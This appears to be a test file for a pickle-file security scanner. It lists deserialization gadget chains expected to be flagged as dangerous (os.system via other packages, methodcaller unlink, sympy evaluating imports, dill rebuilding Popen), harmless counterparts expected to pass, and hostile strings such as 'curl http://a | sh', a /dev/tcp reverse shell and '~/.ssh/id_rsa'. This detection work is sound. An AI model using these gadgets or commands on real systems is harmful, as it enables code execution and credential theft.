"""Calls that attack and their honest twins: ways round a name, callables that call others, reviewed packages' gadgets."""

from __future__ import annotations

import pytest

from tests.build.pickles import (
    APPENDS,
    BUILD,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    MARK,
    NEWOBJ,
    NEWOBJ_EX,
    SETITEMS,
    call,
    command,
    literal,
    name,
    number,
    row,
    stream,
    text,
)

ID, LEN = text("id"), name("builtins", "len")
UNKNOWN = name("some_lib.tools", "do")
LIST = EMPTY_LIST + MARK + ID + APPENDS


def made(module: str, attribute: str, *arguments: bytes) -> bytes:
    return name(module, attribute) + row(*arguments) + NEWOBJ


def attribute(of: bytes, what: str) -> bytes:
    return call(name("builtins", "getattr"), of, text(what))


def state(of: bytes, key: str, value: bytes) -> bytes:
    return of + EMPTY_DICT + MARK + text(key) + value + SETITEMS + BUILD


# What calls what it is given: harmless over a function that computes, a danger over one that nobody knows.
CALLERS = {
    "map": lambda f: call(name("builtins", "list"), call(name("builtins", "map"), f, LIST)),
    "filter": lambda f: call(name("builtins", "tuple"), call(name("builtins", "filter"), f, LIST)),
    "iter": lambda f: call(name("builtins", "iter"), f, number(0)),
    "reduce": lambda f: call(name("functools", "reduce"), f, LIST),
    "starmap": lambda f: call(name("collections", "deque"), call(name("itertools", "starmap"), f, LIST)),
    "accumulate": lambda f: call(name("itertools", "accumulate"), LIST, f),
    "groupby": lambda f: call(name("builtins", "dict"), call(name("itertools", "groupby"), LIST, f)),
    "takewhile": lambda f: call(name("collections", "Counter"), call(name("itertools", "takewhile"), f, LIST)),
    "factory": lambda f: call(name("operator", "getitem"), call(name("collections", "defaultdict"), f), ID),
    "partial as factory": lambda f: call(name("collections", "defaultdict"), call(name("functools", "partial"), f)),
    "cached_property": lambda f: call(name("functools", "cached_property"), f),
}  # fmt: skip


@pytest.mark.parametrize("how", CALLERS)
def test_callables_that_call_others(look, how):
    assert look(stream(CALLERS[how](UNKNOWN))).level == "dangerous"
    assert look(stream(CALLERS[how](name("os", "system")))).level == "dangerous"
    assert look(stream(CALLERS[how](name("nltk.tokenize", "word_tokenize")))).level == "dangerous"
    assert look(stream(CALLERS[how](LEN))).level == "clean"


ATTACKS = {
    "methodcaller": call(call(name("operator", "methodcaller"), text("unlink")), call(name("pathlib", "Path"), text("x"))),
    "methodcaller mapped": call(name("builtins", "map"), call(name("operator", "methodcaller"), text("unlink")), LIST),
    "methodcaller of a dunder": call(name("operator", "methodcaller"), text("__reduce__")),
    "operator.call": call(name("operator", "call"), LEN, ID),
    "reduce by its C name": call(name("_functools", "reduce"), LEN, LIST),
    "reduce through statistics": call(name("statistics", "reduce"), UNKNOWN, LIST),
    "sys through typing": call(attribute(attribute(name("typing", "sys"), "modules"), "get"), text("os")),
    "os through a reviewed package": call(attribute(name("sklearn.utils", "os"), "system"), ID),
    "Popen through a reviewed package": call(name("sklearn.utils._testing", "NamedTemporaryFile"), ID),
    "Thread through a reviewed package": made("sklearn.utils._testing", "Thread"),
    "format walks attributes": call(attribute(text("{0.__class__}"), "format"), name("collections", "OrderedDict")),
    "Formatter": call(attribute(call(name("string", "Formatter")), "format"), text("{0.__class__}"), ID),
    "type with three arguments": call(name("builtins", "type"), text("X"), EMPTY_TUPLE, EMPTY_DICT),
    "EnumType": call(name("enum", "EnumType"), text("X"), EMPTY_TUPLE, EMPTY_DICT),
    "make_dataclass": call(name("dataclasses", "make_dataclass"), text("X"), LIST),
    "get_type_hints": call(name("typing", "get_type_hints"), name("collections", "OrderedDict")),
    "ForwardRef": call(name("typing", "ForwardRef"), text("print(1)")),
    "weakref callback": call(name("weakref", "ref"), name("collections", "OrderedDict"), UNKNOWN),
    "finalize": call(name("weakref", "finalize"), name("collections", "OrderedDict"), LEN),
    "ExitStack": call(name("contextlib", "ExitStack")),
    "copy.copy": call(name("copy", "copy"), name("collections", "OrderedDict")),
    "a base that is called": call(name("copyreg", "_reconstructor"), name("my_lib", "Net"), name("transformers.trainer", "Trainer"), ID),
    "mock": call(name("unittest.mock", "patch"), text("os.system")),
    "timeit": call(name("timeit", "timeit"), text("pass")),
    "Thread": call(name("threading", "Thread"), b"N", LEN),
    "atexit": call(name("atexit", "register"), LEN),
    "import for its effect": name("antigravity", "geohash"),
    "Path.unlink": call(name("pathlib", "Path.unlink"), call(name("pathlib", "Path"), text("x"))),
    "a method mapped": call(name("builtins", "map"), name("pathlib", "Path.unlink"), LIST),
    "TCPStore": call(name("torch.distributed", "TCPStore"), text("host.invalid"), number(80)),
    "SummaryWriter": call(name("torch.utils.tensorboard.writer", "SummaryWriter"), text("x")),
    "CompilationUnit": call(name("torch.jit", "CompilationUnit"), text("x")),
    "memmap": made("numpy", "memmap", text("x")),
    "numpy.test": call(name("numpy", "test")),
    "InferenceSession": call(name("onnxruntime", "InferenceSession"), text("m.onnx")),
    "h5py.File": call(name("h5py", "File"), text("m.h5")),
    "VideoCapture": call(name("cv2", "VideoCapture"), number(0)),
    "Trainer": call(name("transformers", "Trainer"), number(0)),
    "tokenizer's constructor": call(name("transformers", "BertTokenizer"), text("vocab.txt")),
    "from_pretrained": call(attribute(name("transformers", "AutoModel"), "from_pretrained"), text("a/b")),
    "pandas.eval": call(name("pandas", "eval"), text("1")),
    "to_pickle": call(name("pandas", "DataFrame.to_pickle"), number(1), text("x")),
    "Booster of a file": call(name("xgboost", "Booster"), EMPTY_DICT, EMPTY_TUPLE, text("/tmp/x.json")),
    "sympify": call(name("sympy", "sympify"), text("x")),
    "sympy evaluates text": made("sympy.core.add", "Add", text("__import__('os')")),
    "a class with an address": call(name("sklearn.base", "BaseEstimator"), text("http://host.invalid/x")),
    "unpickle_function": call(name("scipy._lib._uarray._backend", "unpickle_function"), text("os"), text("system"), b"N"),
    "load_back": call(name("pytensor.compile.ops", "load_back"), text("os"), text("system")),
    "curry of os.system": call(name("toolz.functoolz", "_restore_curry"), name("toolz.functoolz", "curry"), text("os:system"), row(ID)),
    "a state that is unpickled": state(made("skorch.classifier", "NeuralNetClassifier"), "__cuda_dependent_attributes__", literal(command(2))),
    "CloudpickleWrapper": state(made("stable_baselines3.common.vec_env.base_vec_env", "CloudpickleWrapper"), "x", literal(b"x")),
    "a checkpoint in text": call(name("torch.storage", "_load_from_bytes"), call(name("_codecs", "encode"), text(command(2).decode("latin-1")), text("latin1"))),
    "sympy evaluates any call": call(name("sympy", "Add"), text("exit()")),
    "sympy by copyreg": call(name("copyreg", "__newobj__"), name("sympy.core.add", "Add"), text("__import__('os')")),
    "a reviewed class with a file": call(name("xgboost.core", "Booster"), b"N", text("m.json")),
    "a tree of a file": call(name("xml.etree.ElementTree", "ElementTree"), b"N", text("x")),
    "_load_type of code": call(call(name("dill._dill", "_load_type"), text("CodeType")), number(1)),
    "a namedtuple that is another class": call(call(name("dill._dill", "_create_namedtuple"), text("Popen"), row(ID), text("subprocess")), ID),
    "unreviewed rebuilder with a command": call(name("my_lib", "_reconstruct"), text("curl http://host.invalid | sh")),
}  # fmt: skip


@pytest.mark.parametrize("how", ATTACKS)
def test_attacks(look, how):
    found = look(stream(ATTACKS[how]))
    assert found.level == "dangerous", [item.message for item in found.findings]


HONEST = {
    "a tokenizer is given back its state": state(made("transformers.models.bert.tokenization_bert", "BertTokenizer"), "vocab", ID),
    "a function as a parameter": state(made("sklearn.feature_extraction.text", "TfidfVectorizer"), "tokenizer", name("nltk.tokenize", "word_tokenize")),
    "a path in a state": state(made("transformers.training_args", "TrainingArguments"), "output_dir", text("/tmp/out")),
    "a private bound method": attribute(made("torch.nn.modules.batchnorm", "LazyBatchNorm1d"), "_infer_parameters"),
    "an unbound method": state(made("sklearn.preprocessing._function_transformer", "FunctionTransformer"), "func", name("pandas.core.frame", "DataFrame.dropna")),
    "an exception with a path": call(name("sklearn.exceptions", "NotFittedError"), text("/tmp/x is missing; run fit")),
    "a model of trees": made("xgboost.core", "Booster"),
    "a symbol": made("sympy.core.symbol", "Symbol", text("f(t)")),
    "a number of sympy": made("sympy.core.numbers", "Float", row(number(0), text("c0000"), number(1), number(1)), number(53)),
    "an exception of sympy": call(name("sympy.matrices.exceptions", "ShapeError"), text("sizes (2, 2) and (3, 3)")),
    "a mathematical object": made("sympy.core.add", "Add", number(1)),
    "a function of scipy.fft": call(name("scipy._lib._uarray._backend", "unpickle_function"), text("scipy.fft"), text("fft"), b"N"),
    "a nested factory": call(name("collections", "defaultdict"), call(name("functools", "partial"), name("collections", "defaultdict"), name("builtins", "int"))),
    "a quantity": call(name("pint", "_unpickle_quantity"), name("pint", "Quantity"), number(1), ID),
    "a Cython object": call(name("sklearn.linear_model._sgd_fast", "__pyx_unpickle_Hinge"), name("sklearn.linear_model._sgd_fast", "Hinge"), number(1), b"N"),
    "two classes joined": call(call(name("torch_geometric.data.batch", "DynamicInheritanceGetter")), name("torch_geometric.data.data", "Data")),
    "keywords without a call": name("sklearn.utils._bunch", "Bunch") + EMPTY_TUPLE + EMPTY_DICT + NEWOBJ_EX,
    "a bound operator": attribute(made("textblob._text", "Context"), "__iter__"),
    "a bound method of cloudpickle": call(name("types", "MethodType"), name("sklearn.linear_model._base", "LinearModel.predict"), made("sklearn.linear_model._base", "LinearRegression")),
    "an array of dill": call(name("dill._dill", "_create_array"), name("numpy._core.multiarray", "_reconstruct"), row(name("numpy", "ndarray"), row(number(0)), literal(b"b"))),
    "a type of dill": call(call(name("dill._dill", "_load_type"), text("slice")), number(1)),
    "a filter of numbers": call(name("statsmodels.tsa.statespace._representation", "dStatespace"), number(1)),
}  # fmt: skip


@pytest.mark.parametrize("how", HONEST)
def test_honest_twins(look, how):
    found = look(stream(HONEST[how]))
    assert found.level == "clean", [item.message for item in found.findings]


TOLD = [
    "id", "whoami", "touch /tmp/x", "curl http://a | sh", "sh -c id", "bash -i >& /dev/tcp/1.2.3.4/9", "cmd.exe /c calc",
    "python3 -c 'import os'", "echo x > /tmp/y", "cat /etc/passwd", "http://host.invalid/x", "s3://bucket/key",
    "sqlite:///x.db", "/etc/passwd", "~/.ssh/id_rsa", "../../x", "C:\\Windows\\x", "\\\\host\\share", "1.2.3.4:80",
    "payload.py", "model.pkl", "out/log.txt", "import os; os.system('id')", "exec('x')", "__import__('os')",
    "lambda: 0", "os.system", "os:system", "{{ ''.__class__ }}", "SELECT a FROM b", "$(id)", "`id`",
]  # fmt: skip
NOT_TOLD = [
    "float32", "<f8", "mean radius (worst)", "age/years", "cpu/usage", "cat food", "find the mean", "import duty",
    "lambda", "open price", "system load", "id_number", "customer id", r"(?u)\b\w\w+\b", r"[^;|&]+", "a & b", "C++",
    "yes;no", "50% > 40%", "date of birth", "set", "type", "e.g. this", "M/F", "I/O", "@user", "#tag", "N/A",
    "l1_ratio", "relu", "cuda:0", "utf-8", "en_core_web_sm", "bert-base-uncased", "from A to B", "selects from b",
    "print", "version 1.2.3", "10.5", "2024-01-01T00:00:00", "a.b.c", "$price", "`code`", "echo", "What is this?",
]  # fmt: skip


@pytest.mark.parametrize("words", TOLD)
def test_texts_that_give_a_class_away(look, words):
    assert look(stream(call(name("my_lib", "Thing"), text(words)))).level == "dangerous"
    assert (
        look(stream(call(name("my_lib", "Thing"), EMPTY_LIST + MARK + text(words) + APPENDS))).level
        == "dangerous"
    )


@pytest.mark.parametrize("words", NOT_TOLD)
def test_texts_that_settings_hold(look, words):
    assert look(stream(call(name("my_lib", "Thing"), text(words)))).level == "caution"
    assert look(stream(call(name("sklearn.base", "BaseEstimator"), text(words)))).level == "clean"


@pytest.mark.parametrize("maker", ["list", "sum", "sorted", "set"])
def test_an_endless_iterator_that_is_read(look, maker):
    endless = call(name("itertools", "count"))
    assert look(stream(call(name("builtins", maker), endless))).level == "caution"
    assert look(stream(call(name("builtins", "enumerate"), endless))).level == "clean"
